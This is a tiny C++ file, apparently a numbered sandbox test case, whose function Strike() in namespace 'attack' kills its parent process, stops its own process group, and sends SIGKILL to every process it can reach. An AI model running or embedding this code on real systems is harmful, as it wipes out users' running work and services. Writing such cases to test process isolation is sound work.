// A15: signals to its parent, to its group, to everybody.

#include <unistd.h>

#include <csignal>

namespace attack {

void Strike() {
  kill(getppid(), SIGKILL);
  kill(0, SIGSTOP);
  kill(-1, SIGKILL);
}

}  // namespace attack
